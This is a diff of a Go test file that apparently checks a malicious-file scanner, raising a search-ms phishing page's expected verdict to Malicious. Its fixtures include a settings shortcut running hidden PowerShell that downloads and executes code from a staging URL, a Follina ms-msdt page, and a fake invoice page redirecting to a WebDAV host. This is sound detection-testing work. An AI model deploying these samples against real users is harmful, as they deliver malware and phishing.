@@ -129,7 +129,7 @@ window.location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_Rebrow
 		{Name: "deeplink.settingcontent-ms", Want: verdict.Malicious, Why: "settings shortcut whose DeepLink starts PowerShell with a download cradle", Data: settingContent(`%windir%\system32\cmd.exe /c powershell -w hidden -c "iex (New-Object Net.WebClient).DownloadString('` + stageURL + `')"`)},
 		// --- HTML ---
 		{Name: "follina.html", Want: verdict.Malicious, Why: "page that navigates to ms-msdt: (Follina, CVE-2022-30190)", Data: []byte(follina)},
-		{Name: "search-ms.html", Want: verdict.HighlySuspicious, Why: "page that sends the reader to a search-ms: window over a WebDAV share", Data: []byte(`<!DOCTYPE html><html><head><title>Invoice</title></head><body>
+		{Name: "search-ms.html", Want: verdict.Malicious, Why: "page that sends the reader to a search-ms: window over a WebDAV share", Data: []byte(`<!DOCTYPE html><html><head><title>Invoice</title></head><body>
 <p>Your invoice is ready. If the window does not open, <a href="search:query=invoice&crumb=location:\\` + davHost + `\DavWWWRoot\inv&displayname=Invoice">click here</a>.</p>
 <script>setTimeout(function () { window.location.href = 'search-ms:query=invoice&crumb=location:\\\\` + davHost + `\\DavWWWRoot\\inv'; }, 500);</script>
 </body></html>`)},
